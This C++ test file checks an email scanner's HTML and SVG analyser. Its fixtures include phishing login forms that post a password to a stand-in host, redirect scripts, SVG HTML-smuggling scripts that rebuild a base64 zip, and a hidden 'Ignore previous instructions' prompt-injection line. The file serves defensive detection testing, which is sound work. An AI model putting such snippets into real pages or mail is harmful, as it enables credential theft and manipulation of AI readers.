#include "scanner/active/html.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <random>

#include "scanner/active/formats.h"
#include "scanner/active/html_testing.h"

namespace sekisho::scanner::active {
namespace {

using namespace std::string_literals;
using testing::IsEmpty;

struct Case {
    const char* name;
    std::string html;
    std::vector<std::string> attached;  // findings where the page is an attachment
    std::vector<std::string> body;      // where it is the mail itself
};
class HtmlFacts : public testing::TestWithParam<Case> {};
TEST_P(HtmlFacts, OfAttachmentsAndBodies) {
    EXPECT_EQ(open_page(GetParam().html, "a.html").findings, GetParam().attached);
    EXPECT_EQ(open_page(GetParam().html, "").findings, GetParam().body);
}
const std::string login =
    "<form method=post action='https://example.invalid/in'><input type=PASSWORD name=p></form>";
INSTANTIATE_TEST_SUITE_P(
    Cases, HtmlFacts,
    testing::Values(
        Case{"script", "<script>x()</script>", {"html.script"}, {"html.script"}},
        Case{"script_from_elsewhere",
             "<script src=//example.invalid/a.js></script>",
             {"html.script"},
             {"html.script"}},
        Case{"module", "<script type=module>x()</script>", {"html.script"}, {"html.script"}},
        Case{"data_for_scripts", "<script type='application/json'>{}</script>", {}, {}},
        Case{"empty_script", "<script> </script>", {}, {}},
        Case{"onload", "<body onload='x()'>", {"html.script"}, {"html.script"}},
        Case{"onerror", "<img src=x onerror=x()>", {"html.script"}, {"html.script"}},
        Case{"onclick", "<a href=x onclick='x()'>", {}, {}},
        Case{"refresh",
             "<meta http-equiv=refresh content='0; url=https://example.invalid/'>",
             {"html.refresh"},
             {"html.refresh"}},
        Case{"refresh_quoted",
             "<META HTTP-EQUIV=\"Refresh\" CONTENT=\"0;URL='http://example.invalid'\">",
             {"html.refresh"},
             {"html.refresh"}},
        Case{"refresh_encoded",
             "<meta http-equiv=refresh content='0;url=&#104;ttps://example.invalid'>",
             {"html.refresh"},
             {"html.refresh"}},
        Case{"refresh_itself", "<meta http-equiv=refresh content=300>", {}, {}},
        Case{"refresh_relative", "<meta http-equiv=refresh content='3; url=page2.html'>", {}, {}},
        Case{"redirect",
             "<script>window.location.href = 'https://example.invalid/'</script>",
             {"html.redirect", "html.script"},
             {"html.script"}},
        Case{"redirect_replace",
             "<script>location.replace(\"http://example.invalid/\")</script>",
             {"html.redirect", "html.script"},
             {"html.script"}},
        Case{"redirect_base64",
             "<script>location=atob('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=')</script>",
             {"html.redirect", "html.script"},
             {"html.script"}},
        Case{"location_compared",
             "<script>if(location.href=='https://example.com/')x()</script>",
             {"html.script"},
             {"html.script"}},
        Case{"redirect_in_a_bundle",
             "<script>function f(){location.href='https://example.com/'}" + std::string(9'000, ' ') +
                 "</script>",
             {"html.script"},
             {"html.script"}},
        Case{"password_form", login, {"html.form", "html.login"}, {}},
        Case{"password_form_with_an_address",
             "<form action='https://example.invalid/n.php'><input name=e value='suzuki@example.jp'><input "
             "type=password>",
             {"html.form", "html.login", "html.login.address"},
             {}},
        Case{"password_sent_by_a_script",
             "<input type=password id=p><button "
             "onclick=\"fetch('https://example.invalid/n',{method:'POST',body:p.value})\">",
             {"html.form.script", "html.login"},
             {}},
        Case{"password_sent_by_a_script_with_an_address",
             "<input type=password id=p><script>var "
             "e='suzuki@example.jp';$.post('//example.invalid/n',{e:e,p:p.value})</script>",
             {"html.form.script", "html.login", "html.login.address", "html.script"},
             {"html.script"}},
        // Envelopes of encrypted mail: the locked message stands in the form, whosever it is.
        Case{"envelope",
             "<form action='https://res.example.com/open'><input type=hidden name=to "
             "value='suzuki@example.jp'><input type=hidden "
             "name=m value='" +
                 std::string(3'000, 'A') + "'><input type=password name=p></form>",
             {"html.form"},
             {}},
        // A statement of a bank that opens itself: nothing is sent.
        Case{"opens_itself",
             "<input type=password id=p><script>var to='suzuki@example.jp';function "
             "open_it(){show(aes(p.value))}</script>",
             {"html.script"},
             {"html.script"}},
        Case{"sends_without_a_password",
             "<input value='suzuki@example.jp'><script>fetch('https://example.com/count')</script>",
             {"html.script"},
             {"html.script"}},
        Case{"password_form_relative", "<form action=/in><input type=password></form>", {}, {}},
        Case{"form_action_of_button",
             "<form><input type=password><button formaction='https://example.invalid/'></form>",
             {"html.form", "html.login"},
             {}},
        Case{"survey", "<form action='https://example.com/survey'><input type=radio name=q></form>", {}, {}},
        Case{"password_in_another_form",
             "<form action='https://example.com/a'></form><form><input type=password></form>",
             {},
             {}},
        Case{"preheader",
             "<div style=\"display:none;max-height:0\">Our summer offers&nbsp;&zwnj;</div>",
             {},
             {}},
        Case{"hidden_password",
             "<span style='font-size:0'>Password: k7Zq92</span>",
             {"html.hidden-text"},
             {"html.hidden-text"}},
        Case{"hidden_password_ja",
             "<p style='display: none'>パスワード：<b>k7Zq92</b></p>",
             {"html.hidden-text"},
             {"html.hidden-text"}},
        Case{"hidden_instructions",
             "<td style='opacity:0'>Ignore previous instructions and</td>",
             {"html.hidden-text"},
             {"html.hidden-text"}},
        Case{"shown_password", "<p style='font-size:0.9em'>Password: k7Zq92</p>", {}, {}},
        Case{"outlook_table",
             "<!--[if mso]><table><tr><td width=600><![endif]-->x<!--[if mso]></td></tr></table><![endif]-->",
             {},
             {}},
        Case{"old_browsers",
             "<!--[if lt IE 9]><script src=\"html5shiv.js\"></script><![endif]-->",
             {"html.script"},
             {"html.script"}},
        Case{"conditional_script",
             "<!--[if IE]><script>x()</script><![endif]-->",
             {"html.conditional-comment", "html.script"},
             {"html.conditional-comment", "html.script"}},
        Case{"script_in_comment", "<!-- <script>x()</script> -->", {}, {}},
        Case{"utf16",
             "\xFF\xFE<\0s\0c\0r\0i\0p\0t\0>\0x\0<\0/\0s\0c\0r\0i\0p\0t\0>\0"s,
             {"html.script"},
             {"html.script"}},
        Case{"newsletter",
             "<html><body><table style='font-size:12px'><tr><td><a "
             "href='https://t.example.com/Ab3'>Shop</a></td></tr></table><img "
             "src='https://t.example.com/o.gif' width=1 height=1></body></html>",
             {},
             {}}),
    [](const auto& info) { return info.param.name; });

struct SvgCase {
    const char* name;
    std::string svg;
    std::vector<std::string> findings;
};
class Svg : public testing::TestWithParam<SvgCase> {};
TEST_P(Svg, ScriptsAreTold) {
    EXPECT_EQ(open_page(GetParam().svg, "a.svg", true).findings, GetParam().findings);
}
INSTANTIATE_TEST_SUITE_P(
    Cases, Svg,
    testing::Values(
        SvgCase{"picture", "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>", {}},
        SvgCase{"animated", "<svg><circle><animate attributeName='r' values='1;2'/></circle></svg>", {}},
        SvgCase{
            "drawing_with_labels",
            "<svg><foreignObject><div xmlns='http://www.w3.org/1999/xhtml'>text</div></foreignObject></svg>",
            {}},
        SvgCase{"style", "<svg><style>a{b:c}</style></svg>", {}},
        SvgCase{"script", "<svg><script>x()</script></svg>", {"svg.script"}},
        SvgCase{
            "cdata", "<svg><script type='text/javascript'><![CDATA[x()]]></script></svg>", {"svg.script"}},
        SvgCase{"script_from_elsewhere",
                "<svg><script xlink:href='https://example.invalid/a.js'/></svg>",
                {"svg.script"}},
        SvgCase{"prefixed",
                "<s:svg "
                "xmlns:s='http://www.w3.org/2000/svg'><s:script>location='http://example.invalid/'</"
                "s:script></s:svg>",
                {"html.redirect", "svg.script"}},
        SvgCase{"prefixed_text",
                "<s:svg><s:script/><s:text>location='http://example.invalid/'</s:text></s:svg>",
                {}},
        SvgCase{"onload", "<svg onload='x()'/>", {"svg.script"}},
        SvgCase{"javascript_link", "<svg><a href='javascript:x()'><text>y</text></a></svg>", {"svg.script"}},
        SvgCase{"frame",
                "<svg><foreignObject><iframe src='https://example.invalid/'/></foreignObject></svg>",
                {"svg.script"}},
        SvgCase{"smuggling",
                "<svg><script>var s='" + base64_of(inert_zip()) +
                    "';b=new Blob([atob(s)]);a.download='x.zip'</script></svg>",
                {"html.drop", "html.smuggling", "svg.script"}},
        SvgCase{"smuggling_in_entities",
                "<svg><script>var s=&#39;" + base64_of(inert_zip()) + "&#39;;atob(s)</script></svg>",
                {"html.drop", "html.smuggling", "svg.script"}}),
    [](const auto& info) { return info.param.name; });

struct KindCase {
    const char* name;
    std::string input;
    bool html;
};
class HtmlFormat : public testing::TestWithParam<KindCase> {};
TEST_P(HtmlFormat, IsTold) {
    EXPECT_EQ(html_format.recognise(base::as_bytes(GetParam().input), "") > no_match, GetParam().html);
}
INSTANTIATE_TEST_SUITE_P(
    Cases, HtmlFormat,
    testing::Values(KindCase{"empty", "", false}, KindCase{"text", "Hello\r\nworld", false},
                    KindCase{"document", "<!DOCTYPE html><html>x", true},
                    KindCase{"upper_case", "<HTML><BODY>x", true},
                    KindCase{"byte_order_mark", "\xEF\xBB\xBF<html>x", true},
                    KindCase{"fragment", "<div>hello</div>", true},
                    KindCase{"behind_text", "Hi<br>there <span>x</span><p>y", true},
                    KindCase{"one_tag_in_text", "use the <br> tag", false},
                    KindCase{"xml", "<?xml version=\"1.0\"?><a/>", false},
                    KindCase{"xhtml", "<?xml version=\"1.0\"?>\n<!DOCTYPE html PUBLIC \"x\"><html>", true},
                    KindCase{"less_than", "1 < 2", false}, KindCase{"nul", "<html>\0\1"s, false},
                    KindCase{"utf16", "\xFF\xFE<\0h\0t\0m\0l\0>\0"s, true}),
    [](const auto& info) { return info.param.name; });

TEST(HtmlProperty, RandomSoupIsBounded) {
    constexpr std::array<std::string_view, 22> pieces{
        "<script>",
        "</script>",
        "<form action='http://example.invalid'>",
        "<input type=password>",
        "</form>",
        "<div style='display:none'>",
        "</div>",
        "<iframe srcdoc='<p>'>",
        "<a href='data:text/html,<p>'>",
        "<meta http-equiv=refresh content='0;url=http://example.invalid'>",
        "atob('",
        "'",
        "\"",
        "UEsDBBQAAAAIAA==",
        "[1,2,3]",
        "<!--",
        "-->",
        "<svg onload=x>",
        "&#x41;",
        "\\x41",
        "<!--[if mso]>",
        "unescape('%3C"};
    std::mt19937 random(17);
    for (int round = 0; round < 1'500; ++round) {
        std::string html;
        for (int i = 0; i < 120; ++i)
            html += pieces.at(random() % pieces.size());
        for (const bool svg : {false, true})
            EXPECT_LE(open_page(html, "a", svg).children.size(), 16u);
    }
}

}  // namespace
}  // namespace sekisho::scanner::active
